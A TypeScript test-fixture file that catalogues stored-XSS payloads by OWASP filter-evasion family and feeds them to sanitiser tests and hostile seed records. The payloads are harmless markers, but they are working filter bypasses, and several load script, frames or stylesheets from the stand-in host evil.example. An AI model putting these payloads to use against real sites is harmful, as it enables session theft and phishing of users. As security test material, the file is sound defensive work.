/**
 * Stored-XSS payloads, the way a compromised editor account or a pasted page would store them, by the families of
 * OWASP's XSS filter evasion cheat sheet. ONE list for the server's seeds (article bodies, goods introductions, titles:
 * newsHostile.ts, db/seeds/hostile.ts) and every test that checks them (jest, Chromium, the mini-program).
 *
 * Every payload that runs sets `window.__xss` (or `parent.__xss` from a frame) to its own name, or clobbers
 * `window.__xss` with an element, or asks for a file on https://evil.example/ (the tests watch requests there), so a
 * test can tell that something ran. `trigger` says when it would run as written, in a page that inserted it raw:
 *   load         by itself while the page loads (Chromium's control test runs each of these raw and sees it fire)
 *   interaction  on a tap, hover or submit
 *   old-browser  only in browsers of the past (IE's expression() and vbscript:, Firefox's MathML links, ...)
 *   rewrite      only if something rewrites the markup first (a sanitiser that decodes twice, normalises Unicode,
 *                moves template content, re-reads its own output, closes an unclosed tag, ...): mutation XSS
 */

export type XssFamily =
  | 'script' | 'case-and-whitespace' | 'malformed' | 'event-handler' | 'url-scheme' | 'frame-and-embed' | 'form'
  | 'svg' | 'mathml' | 'css' | 'mxss' | 'comment-and-cdata' | 'double-encoding' | 'dom-clobbering'
  | 'unquoted-and-backtick' | 'unicode-escape' | 'unclosed'

export type XssTrigger = 'load' | 'interaction' | 'old-browser' | 'rewrite'

export interface XssPayload {
  family: XssFamily
  /** Unique; what the payload sets window.__xss to. */
  name: string
  trigger: XssTrigger
  html: string
  /**
   * It hides everything after it, in a browser as in the app's reader (an unclosed script, quote, iframe or svg runs
   * to the end of the input): a body carries at most one of these, last, or the payloads after it go untested.
   */
  swallows?: true
}

/** What each family is called where a learner could see it (headings of the seeded hostile records). */
export const FAMILY_LABEL: Record<XssFamily, string> = {
  'script': '脚本标签',
  'case-and-whitespace': '大小写与空白字符',
  'malformed': '畸形标签',
  'event-handler': '事件属性',
  'url-scheme': '伪协议链接',
  'frame-and-embed': '框架与嵌入',
  'form': '表单提交',
  'svg': 'SVG 图形',
  'mathml': 'MathML 公式',
  'css': '样式表',
  'mxss': '解析差异',
  'comment-and-cdata': '注释与 CDATA',
  'double-encoding': '多重编码',
  'dom-clobbering': 'DOM 覆盖',
  'unquoted-and-backtick': '无引号与反引号',
  'unicode-escape': 'Unicode 转义',
  'unclosed': '未闭合标签',
}

/** Every family, in the order bodies carry them. */
export const XSS_FAMILIES = Object.keys(FAMILY_LABEL) as XssFamily[]

/** Where remote payloads point: nothing may ever be requested from here. */
export const EVIL_ORIGIN = 'https://evil.example'

const entities = (s: string, hex = false) => [...s].map((c) => (hex ? `&#x${c.charCodeAt(0).toString(16)}` : `&#${c.charCodeAt(0)};`)).join('')
/** ASCII only. */
const base64 = (s: string) => btoa(s)

type Entry = [name: string, trigger: XssTrigger, html: (x: string, name: string) => string, swallows?: 'swallows']

/** x: `window.__xss='<name>'`. */
const FAMILIES: Record<XssFamily, Entry[]> = {
  'script': [
    ['script-alert', 'load', (x) => `<script>${x}; alert(document.domain)</script>`],
    ['script-src-remote', 'load', () => `<SCRIPT SRC="${EVIL_ORIGIN}/xss.js"></SCRIPT>`],
    ['script-module', 'load', (x) => `<script type="module">${x}</script>`],
    ['script-double-lt', 'load', (x) => `<<SCRIPT>${x};//<</SCRIPT>`],
    ['script-slash-attribute', 'load', () => `<SCRIPT/XSS SRC="${EVIL_ORIGIN}/xss2.js"></SCRIPT>`],
    ['script-data-src', 'load', (x) => `<script src="data:text/javascript,${x}"></script>`],
  ],
  'case-and-whitespace': [
    ['case-script', 'load', (x) => `<ScRiPt>${x}</sCrIpT>`],
    ['case-handler', 'load', (x) => `<IMG SRC=x ONERROR="${x}">`],
    ['newline-in-tag', 'load', (x) => `<img\nsrc=x\nonerror="${x}">`],
    ['formfeed-in-tag', 'load', (x) => `<img\fsrc=x\fonerror="${x}">`],
    ['tab-around-equals', 'load', (x) => `<img src=x onerror\t=\t"${x}">`],
    ['slash-separators', 'load', (x) => `<img/src="x"/onerror="${x}">`],
    ['nul-in-scheme', 'old-browser', (x) => `<IMG SRC="java\u0000script:${x}">`],
  ],
  'malformed': [
    ['malformed-img-quotes', 'load', (x) => `<IMG """><SCRIPT>${x}</SCRIPT>">`],
    ['no-space-between-attributes', 'load', (x) => `<img src="x"onerror="${x}">`],
    ['nested-strip', 'rewrite', (x) => `<scr<script>ipt>${x}</scr</script>ipt>`],
    ['tag-in-attribute', 'rewrite', (x) => `<div><a title="</div><img src=x onerror=${x}>">说明</a></div>`],
  ],
  'event-handler': [
    ['img-onerror', 'load', (x) => `<img src="/media/missing-image.png" alt="资料" onerror="${x}">`],
    ['img-onload', 'load', (x) => `<img src="/media/cover/xss-onload.png?w=96&h=96&title=%E5%9B%BE" onload="${x}">`],
    ['svg-onload', 'load', (x) => `<svg onload="${x}"><circle cx="20" cy="20" r="10"></circle></svg>`],
    ['body-onload', 'load', (x) => `<body onload="${x}"><p>正文结束。</p></body>`],
    ['details-ontoggle', 'load', (x) => `<details open ontoggle="${x}"><summary>展开查看</summary><p>资料清单见附件。</p></details>`],
    ['video-source-onerror', 'load', (x) => `<video><source src="x" onerror="${x}"></video>`],
    ['audio-onerror', 'load', (x) => `<audio src="x" onerror="${x}"></audio>`],
    ['marquee-onstart', 'old-browser', (x) => `<marquee onstart="${x}">滚动公告</marquee>`],
    ['input-autofocus', 'load', (x) => `<input autofocus onfocus="${x}" value="请输入手机号">`],
    ['custom-element-autofocus', 'load', (x) => `<xss autofocus tabindex="1" onfocus="${x}">自动聚焦的区块</xss>`],
    ['p-onmouseover', 'interaction', (x) => `<p onclick="${x}" onmouseover="${x}">把鼠标移到这里试试。</p>`],
    ['a-onclick', 'interaction', (x) => `<a href="/article/10101" onclick="${x}; return false">查看上一篇</a>`],
  ],
  'url-scheme': [
    ['js-href', 'interaction', (x) => `<a href="javascript:void(${x})">点击下载考试大纲</a>`],
    ['js-mixed-case', 'interaction', (x) => `<a href="JaVaScRiPt:void(${x})">大小写混写的链接</a>`],
    ['js-leading-space', 'interaction', (x) => `<a href="  javascript:void(${x})">前导空格的链接</a>`],
    ['js-leading-control', 'interaction', (x) => `<a href="&#x01;javascript:void(${x})">前导控制字符的链接</a>`],
    ['js-tab-entity', 'interaction', (x) => `<a href="jav&#x09;ascript:void(${x})">夹带制表符的链接</a>`],
    ['js-newline-entity', 'interaction', (x) => `<a href="jav&#x0A;ascript:void(${x})">夹带换行的链接</a>`],
    ['js-literal-tab', 'interaction', (x) => `<a href="jav\tascript:void(${x})">夹带制表符原文的链接</a>`],
    ['js-decimal-entities', 'interaction', (x) => `<a href="${entities('javascript:')}void(${x})">实体编码的链接</a>`],
    ['js-decimal-no-semicolons', 'interaction', (x) => `<a href="${[...'javascript:'].map((c) => `&#0000${c.charCodeAt(0)}`).join('')}void(${x})">无分号实体的链接</a>`],
    ['js-hex-entities', 'interaction', (x) => `<a href="${entities('javascript:', true)}void(${x})">十六进制实体的链接</a>`],
    ['js-named-entities', 'interaction', (x) => `<a href="ja&Tab;va&NewLine;script&colon;void(${x})">命名实体的链接</a>`],
    ['js-comment-newline', 'interaction', (x) => `<a href="javascript://%0Avoid(${x})">注释换行的链接</a>`],
    ['vbscript', 'old-browser', (x) => `<a href="vbscript:window.execScript(&quot;${x}&quot;)">vbscript 链接</a>`],
    ['data-html-link', 'old-browser', (x) => `<a href="data:text/html;base64,${base64(`<script>opener.${x.slice(7)}</script>`)}">data 链接</a>`],
    ['img-js-src', 'old-browser', (x) => `<IMG SRC="javascript:void(${x})">`],
  ],
  'frame-and-embed': [
    ['iframe-js-src', 'load', (x) => `<iframe src="javascript:${x.replace('window', 'parent')}"></iframe>`],
    ['iframe-srcdoc', 'load', (x) => `<iframe srcdoc="&lt;script&gt;${x.replace('window', 'parent')}&lt;/script&gt;"></iframe>`],
    ['iframe-onload', 'load', (x) => `<iframe onload="${x}"></iframe>`],
    ['iframe-remote', 'load', () => `<iframe src="${EVIL_ORIGIN}/phish.html" width="100%" height="300" frameborder="0"></iframe>`],
    ['object-js', 'old-browser', (x) => `<object data="javascript:void(${x})"></object>`],
    ['object-data-html', 'old-browser', (x) => `<object data="data:text/html;base64,${base64(`<script>parent.${x.slice(7)}</script>`)}"></object>`],
    ['embed-js', 'old-browser', (x) => `<embed src="javascript:void(${x})">`],
    ['base-href', 'load', () => `<base href="${EVIL_ORIGIN}/"><img src="base-probe.png" alt="">`],
    ['base-js', 'old-browser', (x) => `<base href="javascript:/a/-${x}//"><a href="x">相对链接</a>`],
    ['meta-refresh-js', 'old-browser', (x) => `<meta http-equiv="refresh" content="0;url=javascript:void(${x})">`],
    ['meta-refresh-remote', 'load', () => `<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/phish.html">`],
  ],
  'form': [
    ['form-action', 'interaction', (x) => `<form action="javascript:void(${x})"><button type="submit">提交报名表</button></form>`],
    ['button-formaction', 'interaction', (x) => `<form><button formaction="javascript:void(${x})">提交</button></form>`],
    ['form-attribute', 'interaction', (x) => `<form id="sign-up"></form><button form="sign-up" formaction="javascript:void(${x})">表单外的提交</button>`],
  ],
  'svg': [
    ['svg-script', 'load', (x) => `<svg><script>${x}</script></svg>`],
    ['svg-animate-onbegin', 'load', (x) => `<svg><animate onbegin="${x}" attributeName="x" dur="1s"></animate></svg>`],
    ['svg-set-onbegin', 'load', (x) => `<svg><set onbegin="${x}" attributeName="x" to="1"></set></svg>`],
    ['svg-image-onerror', 'load', (x) => `<svg><image href="x" onerror="${x}"></image></svg>`],
    ['svg-foreignobject', 'load', (x) => `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${x.replace('window', 'parent')}&lt;/script&gt;"></iframe></foreignObject></svg>`],
    ['svg-xlink-href', 'interaction', (x) => `<svg><a xlink:href="javascript:void(${x})"><text x="0" y="15">查看详情</text></a></svg>`],
    ['svg-animate-href', 'interaction', (x) => `<svg><animate xlink:href="#xss-link" attributeName="href" values="javascript:void(${x})"></animate><a id="xss-link"><text x="20" y="20">点此查看</text></a></svg>`],
    ['svg-use-data', 'old-browser', (x) => `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${x}"/></svg>`)}#x"></use></svg>`],
  ],
  'mathml': [
    ['mathml-mtext-img', 'load', (x) => `<math><mtext><img src=x onerror="${x}"></mtext></math>`],
    ['mathml-style-breakout', 'load', (x) => `<math><style><img src=x onerror="${x}"></style></math>`],
    ['mathml-mglyph-style', 'rewrite', (x) => `<math><mtext><table><mglyph><style><img src=x onerror="${x}"></style></mglyph></table></mtext></math>`],
    ['mathml-href', 'old-browser', (x) => `<math href="javascript:void(${x})"><mtext>点击公式</mtext></math>`],
    ['mathml-maction', 'old-browser', (x) => `<math><maction actiontype="statusline" xlink:href="javascript:void(${x})"><mtext>公式</mtext></maction></math>`],
  ],
  'css': [
    ['css-import', 'load', () => `<style>@import '${EVIL_ORIGIN}/evil.css';</style>`],
    ['css-link', 'load', () => `<link rel="stylesheet" href="${EVIL_ORIGIN}/hide.css">`],
    ['css-inline-remote', 'load', () => `<div style="background:url(${EVIL_ORIGIN}/track.png)">带背景图的段落。</div>`],
    ['css-animation-handler', 'load', (x) => `<style>@keyframes xss{}</style><p style="animation-name:xss" onanimationstart="${x}">带动画的段落。</p>`],
    ['css-expression', 'old-browser', (x) => `<div style="width: expression(${x})">带表达式的区块</div>`],
    ['css-comment-expression', 'old-browser', (x) => `<img style="xss:expr/*XSS*/ession(${x})">`],
    ['css-url-javascript', 'old-browser', (x) => `<p style="background-image: url(javascript:void(${x}))">带样式的段落。</p>`],
    ['css-list-style-javascript', 'old-browser', (x) => `<style>li { list-style-image: url("javascript:void(${x})") }</style><ul><li>列表项</li></ul>`],
    ['css-behavior', 'old-browser', () => `<p style="behavior: url(${EVIL_ORIGIN}/xss.htc)">带行为的段落。</p>`],
  ],
  'mxss': [
    ['noscript-title', 'load', (x) => `<noscript><p title="</noscript><img src=x onerror=${x}>">提示</p></noscript>`],
    ['svg-style-namespace', 'load', (x) => `<svg></p><style><a id="</style><img src=1 onerror=${x}>"></style></svg>`],
    ['xmp-breakout', 'load', (x) => `<xmp><p title="</xmp><img src=x onerror=${x}>">`],
    ['textarea-breakout', 'load', (x) => `<textarea><p title="</textarea><img src=x onerror=${x}>">`],
    ['noembed-breakout', 'load', (x) => `<noembed><img title="</noembed><img src=x onerror=${x}>"></noembed>`],
    ['title-breakout', 'load', (x) => `<title><img title="</title><img src=x onerror=${x}>"></title>`],
    ['template-content', 'rewrite', (x) => `<template><img src=x onerror="${x}"></template>`],
    ['form-math-mglyph', 'rewrite', (x) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${x}">`, 'swallows'],
    ['markup-in-alt', 'rewrite', (x) => `<img src="/media/missing-image.png" alt="<table ><img src=x onerror=${x}>">`],
  ],
  'comment-and-cdata': [
    ['comment-breakout', 'load', (x) => `<!--<img src="--><img src=x onerror=${x}//">`],
    ['comment-bang-close', 'load', (x) => `<!-- --!><img src=x onerror="${x}"> -->`],
    ['comment-abrupt', 'load', (x) => `<!--><img src=x onerror="${x}">-->`],
    ['cdata-in-html', 'load', (x) => `<![CDATA[><img src=x onerror="${x}">]]>`],
    ['svg-cdata', 'load', (x) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${x}>">]]></svg>`],
    ['processing-instruction', 'load', (x) => `<? ><img src=x onerror="${x}"> ?>`],
    ['ie-conditional-comment', 'old-browser', (x) => `<!--[if gte IE 4]><script>${x}</script><![endif]-->`],
  ],
  'double-encoding': [
    ['entity-encoded-handler', 'load', (x) => `<img src=x onerror="${entities(x)}">`],
    ['double-encoded-href', 'rewrite', (x) => `<a href="&amp;#106;avascript:void(${x})">二次编码的链接</a>`],
    ['double-encoded-markup', 'rewrite', (x) => `<p>&amp;lt;img src=x onerror=${x}&amp;gt;</p>`],
    ['entity-encoded-markup', 'rewrite', (x) => `<p>&#x3C;script&#x3E;${x}&#x3C;/script&#x3E;</p>`],
    ['url-encoded-scheme', 'rewrite', (x) => `<a href="%6A%61%76%61%73%63%72%69%70%74:void(${x})">百分号编码的链接</a>`],
  ],
  'dom-clobbering': [
    ['clobber-id', 'load', () => `<a id="__xss" href="${EVIL_ORIGIN}/">带 id 的链接</a>`],
    ['clobber-img-name', 'load', () => `<img name="__xss" src="/media/cover/xss-clobber.png?w=96&h=96&title=%E5%9B%BE" alt="">`],
    ['clobber-form', 'load', () => `<form id="__xss"><input name="attributes"><input name="nodeName"></form>`],
    ['clobber-iframe-name', 'load', () => `<iframe name="__xss" srcdoc="&lt;p&gt;x&lt;/p&gt;"></iframe>`],
    ['clobber-location', 'interaction', (x) => `<a id="location" name="location" href="javascript:void(${x})">带 location 的链接</a>`],
  ],
  'unquoted-and-backtick': [
    ['unquoted-handler', 'load', (x) => `<img src=x onerror=${x}>`],
    ['backtick-template', 'load', (_x, n) => `<img src=x onerror=window.__xss=\`${n}\`>`],
    ['unquoted-regex', 'load', (_x, n) => `<svg onload=window.__xss=/${n}/.source>`],
    ['backtick-quoted-attribute', 'old-browser', (x) => `<img src=\`x\` onerror=\`${x}\`>`],
    ['unquoted-href', 'interaction', (x) => `<a href=javascript:void(${x})>无引号的链接</a>`],
  ],
  'unicode-escape': [
    ['unicode-escape-identifier', 'load', (_x, n) => `<img src=x onerror="\\u0077indow.__xss='${n}'">`],
    ['hex-escape-string', 'load', (_x, n) => `<img src=x onerror="window['\\x5f\\x5fxss']='${n}'">`],
    ['from-char-code', 'load', () => `<img src=x onerror="window.__xss=String.fromCharCode(102,114,111,109)+'-char-code'">`],
    ['unicode-js-url', 'interaction', (_x, n) => `<a href="javascript:void(\\u0077indow.__xss='${n}')">转义的链接</a>`],
    ['fullwidth-brackets', 'rewrite', (x) => `<p>＜script＞${x}＜/script＞</p>`],
  ],
  'unclosed': [
    ['unclosed-img', 'load', (x) => `<img src=x onerror="${x}"`],
    ['unclosed-svg', 'load', (x) => `<svg onload="${x}"`, 'swallows'],
    ['unclosed-iframe-srcdoc', 'load', (x) => `<iframe srcdoc="&lt;script&gt;${x.replace('window', 'parent')}&lt;/script&gt;"`, 'swallows'],
    ['unclosed-link', 'interaction', (x) => `<a href="javascript:void(${x})">未闭合的链接`],
    ['unclosed-script', 'rewrite', (x) => `<script>${x}`, 'swallows'],
    ['unclosed-quote', 'rewrite', (x) => `<img src=x onerror="${x}`, 'swallows'],
  ],
}

export const XSS_PAYLOADS: XssPayload[] = XSS_FAMILIES.flatMap((family) =>
  FAMILIES[family].map(([name, trigger, html, swallows]) => ({
    family, name, trigger, html: html(`window.__xss='${name}'`, name), ...(swallows ? { swallows: true as const } : {}),
  })),
)

export function payloadsOf(family: XssFamily): XssPayload[] {
  return XSS_PAYLOADS.filter((p) => p.family === family)
}

export function payloadNamed(name: string): XssPayload {
  const found = XSS_PAYLOADS.find((p) => p.name === name)
  if (!found) throw new Error(`no XSS payload named ${name}`)
  return found
}
